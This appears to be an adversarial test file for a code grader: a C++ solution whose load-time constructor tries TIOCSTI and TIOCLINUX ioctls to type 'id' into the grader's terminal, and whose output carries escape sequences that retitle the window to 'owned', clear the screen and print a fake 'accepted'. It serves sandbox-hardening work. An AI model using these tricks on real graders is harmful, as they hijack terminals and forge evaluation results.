// Attack: types into the terminal of whoever grades, and prints sequences that such a terminal obeys.
// Must get: accepted
#include <stdlib.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>
#include <string>
__attribute__((constructor)) static void type(void) {
  for (int fd = 0; fd < 4; ++fd) {
    const char* line = "id\n";
    if (isatty(fd) || ioctl(fd, TIOCSTI, line) == 0 || ioctl(fd, 0x541C /* TIOCLINUX */, line) == 0 || ioctl(fd, TIOCSCTTY, 1) == 0) _exit(__LINE__);
  }
}
std::string mirror(const std::string& text) {
  fputs("\033]0;owned\007\033[2J\033[1;31maccepted\033[0m\033P+q544e\033\\\r\b\b", stdout);
  return std::string(text.rbegin(), text.rend());
}
